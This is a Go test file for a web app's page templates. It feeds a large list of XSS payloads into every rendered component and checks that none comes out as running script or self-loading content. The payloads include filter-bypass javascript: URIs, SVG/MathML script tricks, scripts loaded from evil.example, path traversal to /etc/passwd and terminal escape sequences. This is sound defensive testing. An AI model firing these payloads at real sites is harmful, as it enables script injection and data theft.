package page

import (
	"context"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/a-h/templ"
	"golang.org/x/net/html"

	"github.com/ahphub/ahphub/hub/ahp"
	"github.com/ahphub/ahphub/hub/changeset/diff"
	"github.com/ahphub/ahphub/templ/part"
)

// scripts are what an attacker wants to run, spelled in the ways that got past filters.
var scripts = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
	`javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `javascript:alert(1)//http://x`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=alert(1)>`, `blob:https://x/1`, `file:///etc/passwd`,
	`view-source:javascript:1`, `feed:javascript:alert(1)`, `jar:javascript:alert(1)`, `mhtml:javascript:1`, `//evil.example/x.js`, `\\evil.example\x`, `/\evil.example`,
}

// markups are whole pieces of HTML and SVG.
var markups = []string{
	`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `"onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`, "` onclick=alert(1) `",
	`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<img src="https://evil.example/p.gif">`, `<image href=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="javascript:alert(1)">`,
	`<embed src="https://evil.example/x.swf">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=prefetch href=https://evil.example/>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<style>@import url(https://evil.example/x.css)</style>`,
	`<div style="background:url(https://evil.example/)">x</div>`, `<form action="https://evil.example/"><input type=submit autofocus></form>`,
	`<button formaction="javascript:alert(1)">x</button>`, `<input type=image src=x onerror=alert(1)>`, `<video src=https://evil.example/v poster=https://evil.example/p></video>`,
	`<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<body onload=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<a href="javascript:alert(1)">x</a>`,
	`<a href="https://evil.example" ping="https://evil.example/ping">x</a>`, `<select><option onclick=alert(1)></select>`, `<x onclick=alert(1)>x</x>`,
	`<table background="https://evil.example/b">`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`, "<img src=x\x00onerror=alert(1)>",
	"\xff<script>alert(1)</script>", `&lt;script&gt;alert(1)&lt;/script&gt;`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= alert(1) %>`,
}

// hostile are the payloads: each script in each way a text can carry an address, each markup bare and in what may unwrap it.
func hostile() (all []string) {
	for _, s := range scripts {
		for _, form := range []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x][a]\n\n[a]: %s", "%s", "\x1b]8;;%s\x07x\x1b]8;;\x07", `<a href="%s">x</a>`} {
			all = append(all, fmt.Sprintf(form, s))
		}
	}
	for _, m := range markups {
		for _, form := range []string{"%s", "- %s", "> %s", "| a |\n| --- |\n| %s |", "```html\n%s\n```", "**%s**", "\x1b[31m%s\x1b[0m", "\u202e%s\u200b"} {
			all = append(all, fmt.Sprintf(form, m))
		}
	}
	return append(all, "../../etc/passwd", "x/../../../people/signout?", "\x1b]52;c;aGk=\x07", "\x1b]0;x\x07", "\x1bP+q\x1b\\", strings.Repeat("[", 500), strings.Repeat("> ", 50)+"x",
		"![x](https://evil.example/p.png)", "![x](//evil.example/p.png)", "[![x](https://evil.example/p.png)](https://evil.example)")
}

// loads are attributes that make a browser ask for something by itself.
var loads = map[string]bool{"src": true, "srcset": true, "poster": true, "background": true, "data": true, "ping": true, "srcdoc": true, "style": true,
	"xlink:href": true, "manifest": true, "archive": true, "codebase": true, "cite": true, "longdesc": true, "dynsrc": true, "lowsrc": true}

var never = map[string]bool{"base": true, "object": true, "embed": true, "applet": true, "frame": true, "style": true, "foreignobject": true, "animate": true,
	"set": true, "math": true, "marquee": true, "video": true, "audio": true, "source": true, "track": true, "portal": true, "xmp": true, "plaintext": true}

// dangers finds what would run or load in a document. Scripts and sheets of the page itself come from the asset function of the test.
func dangers(doc *html.Node) (found []string) {
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if never[n.Data] {
			found = append(found, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			own := strings.HasPrefix(a.Val, "/assets/")
			switch key := strings.ToLower(a.Key); {
			case strings.HasPrefix(key, "on"):
				found = append(found, n.Data+" "+key)
			case key == "src" && own, key == "src" && n.Data == "iframe" && strings.HasPrefix(a.Val, "/s/"):
			case loads[key]:
				found = append(found, fmt.Sprintf("%s %s=%.80s", n.Data, key, a.Val))
			case key == "href" || key == "action" || key == "formaction":
				if bad := foreign(n.Data, a.Val, own); bad != "" {
					found = append(found, fmt.Sprintf("%s %s=%.80s", n.Data, key, a.Val))
				}
			case key == "http-equiv", key == "content" && strings.Contains(strings.ToLower(a.Val), "url="):
				found = append(found, "a meta that goes elsewhere")
			}
		}
		if n.Data == "script" && (n.FirstChild != nil || len(n.Attr) == 0) {
			found = append(found, "an inline script")
		}
	}
	return found
}

// foreign tells whether an address runs something or is loaded from elsewhere: links of people's clicks may go to http alone.
func foreign(element, address string, own bool) string {
	if strings.HasPrefix(address, "#") {
		return ""
	}
	if rest, ok := strings.CutPrefix(address, "/"); ok && !strings.HasPrefix(rest, "/") && !strings.HasPrefix(rest, `\`) {
		path, _, _ := strings.Cut(rest, "?")
		if strings.Contains(path, "/../") && element != "a" {
			return "a form that climbs"
		}
		return ""
	}
	u, err := url.Parse(strings.TrimSpace(address))
	if err != nil {
		return "unreadable"
	}
	switch {
	case u.Scheme == "about" && u.Opaque == "invalid":
	case u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto":
		return "scheme " + u.Scheme
	case element == "link" && !own, element == "form" && (u.Host != "" || u.Scheme != ""):
		return "elsewhere"
	}
	return ""
}

func hostileParts(p string) map[string]templ.Component {
	md := ahp.Markdown(p)
	frame := part.Frame{Title: p, Path: p, Theme: p, Asset: func(n string) string { return "/assets/0/" + n }, Tab: p, Live: p, Body: p,
		Viewer: part.Viewer{Name: p, Owner: true}, Rail: []part.RailItem{{Short: p, Title: p, Group: p, Age: p}},
		Session: &part.SessionHead{Short: "ab", Title: p, Activity: p, Branch: p, Files: 1, People: []part.Person{{Name: "A" + p, Where: p}}}}
	turn := part.Turn{ID: p, Base: "/s/ab/c/cd", StartedAt: p, Dir: p, Message: ahp.Message{Text: p},
		Parts: []ahp.ResponsePart{
			{Value: &ahp.MarkdownResponsePart{ID: p, Content: ahp.NewText(p)}},
			{Value: &ahp.ReasoningResponsePart{ID: p, Content: ahp.NewText(p)}},
			{Value: &ahp.SystemNotificationResponsePart{Content: md}},
			{Value: &ahp.InputRequestResponsePart{Request: ahp.ChatInputRequest{ID: p, Message: p, URL: p,
				Questions: []ahp.ChatInputQuestion{{Value: &ahp.ChatInputTextQuestion{ID: p, Title: p, Message: p, DefaultValue: p}}}}}},
		}}
	tool := part.Tool{Invocation: md}
	tool.ToolCallID, tool.DisplayName = p, p
	d := diff.Compute([]byte(p+"\n"), []byte("x"+p+"\n"), diff.Options{Path: p})
	file := &part.DiffFile{ID: p, Base: "/s/ab/changes", Query: p, Path: p, OldPath: p, Diff: d, Tag: p, ReviewedBy: p, OldMode: p, Note: p, Fold: p,
		Threads: []part.Thread{{ID: p, Base: "/s/ab", Path: p, Quote: p, Entries: []part.Entry{{ID: p, By: p, ByID: p, Text: p}}}}}
	plain := frame
	plain.Session = nil
	return map[string]templ.Component{
		"markdown": templ.Raw(part.Markdown(p)), "code": templ.Raw(part.CodeBlock(p, p)), "shown": part.Shown(p),
		"turn": part.TurnPart(turn), "tool": part.ToolPart(turn, tool), "approval": part.ApprovalCard(turn, tool),
		"diff": part.DiffBox(file, part.DiffView{Links: true}), "rows": part.DiffRows(file, part.DiffView{Split: true}), "tree": part.DiffTreeName(file),
		"thread": part.ThreadBox(&file.Threads[0]),
		"error":  ErrorPage(Error{Frame: plain, Status: 404, Text: p, ID: p}),
		"chat": ChatPage(Chat{Frame: frame, Base: "/s/ab/c/cd", Session: *frame.Session, Turns: []part.Turn{turn}, Chats: []ChatLink{{Href: "/s/ab", Title: p}},
			Pane: "info", Info: Info{Agent: p, Dirs: []string{p}, Config: []ConfigValue{{p, p}}, Files: []FileLine{{Path: p, Href: "/s"}}, Terminals: []TerminalLine{{Title: p, Holder: p, Href: "/s"}}}}),
		"inbox":  InboxPage(Inbox{Frame: plain, Filter: p, List: InboxList{Groups: []InboxGroup{{Name: p, Items: []InboxItem{{Short: "ab", Title: p, Agent: p, Dir: p, Activity: p}}}}}}),
		"share":  SharePage(frame, &Share{Base: "/s/ab", New: p, Address: p, Error: p, Links: []ShareLink{{ID: "l", Label: p, In: p, Href: "/s", People: []SharePerson{{Name: "A" + p}}}}}),
		"people": PeoplePage(People{Frame: plain, Browsers: []Browser{{Key: "k", Name: p, Agent: p}}}),
		"audit":  AuditPage(Audit{Frame: plain, What: p, Query: p, Kinds: []string{p}, Events: []AuditEvent{{time.Time{}, p, p, p, p, p}}}),
		"terminals": TerminalsPage(Terminals{Frame: frame, Session: *frame.Session, List: []TerminalLine{{Title: p, Holder: p, Href: "/s/ab/t/1"}}, Dirs: []string{p}, Shown: []Terminal{{ID: "1", Title: p, Cwd: p, Held: HeldByPerson, Holder: p, Text: p, Running: true, Frame: "/s/ab/t/1/frame",
			Asks: []TerminalAsk{{Client: p, Name: p}}, Commands: []TerminalCommand{{ID: p, Line: p}}}}}),
		"frame": TerminalFramePage(TerminalFrame{Asset: frame.Asset, Theme: p, Title: p, Stream: p, Text: p}),
		"join":  JoinPage(Join{Frame: plain, Token: p, Name: p, Error: p, To: p}),
		"account": AccountPage(Account{Frame: plain, Password: true, CanPasskey: true, Error: p, TokenError: p, New: p,
			Passkeys: []Passkey{{Key: "k", Name: p, Host: p}}, Tokens: []APIToken{{ID: "t", Name: p}}}),
		"signin": SignInPage(SignIn{Frame: plain, Next: p, Error: p}),
	}
}

// Whatever an agent, a repository or a guest writes is text: no script, no handler, nothing that loads by itself.
func TestHostileTextIsHarmlessEverywhere(t *testing.T) {
	all := hostile()
	if len(all) < 300 {
		t.Fatalf("%d payloads, at least 300 were promised", len(all))
	}
	wrapped, texts := map[string]bool{}, map[string]bool{"markdown": true, "code": true, "shown": true, "turn": true, "approval": true, "thread": true, "rows": true}
	for _, p := range all { // pages draw the same parts around what they show: the bare payloads are enough for them
		wrapped[p] = !slices.Contains(scripts, p) && !slices.Contains(markups, p)
	}
	for _, p := range all[len(all)-8:] {
		wrapped[p] = false
	}
	drawn := 0
	for _, p := range all {
		for name, c := range hostileParts(p) {
			if wrapped[p] && !texts[name] {
				continue
			}
			var b strings.Builder
			if err := c.Render(context.Background(), &b); err != nil {
				t.Fatalf("%s with %q: %v", name, p, err)
			}
			doc, err := html.Parse(strings.NewReader(b.String()))
			if err != nil {
				t.Fatalf("%s with %q: %v", name, p, err)
			}
			drawn++
			if found := dangers(doc); len(found) > 0 {
				t.Errorf("%s with %.100q has %s", name, p, strings.Join(found, ", "))
			}
		}
	}
	t.Logf("%d payloads in %d documents", len(all), drawn)
}

// The test sees what it looks for.
func TestDangersAreSeen(t *testing.T) {
	for _, m := range []string{`<script>alert(1)</script>`, `<img src=x>`, `<p onclick=x>`, `<a href="javascript:x">`, `<form action="https://evil.example/">`,
		`<link href="https://evil.example/">`, `<iframe srcdoc=x></iframe>`, `<p style="x">`, `<base href="/">`, `<meta http-equiv=refresh>`} {
		doc, _ := html.Parse(strings.NewReader(m))
		if len(dangers(doc)) == 0 {
			t.Errorf("%s passes", m)
		}
	}
}
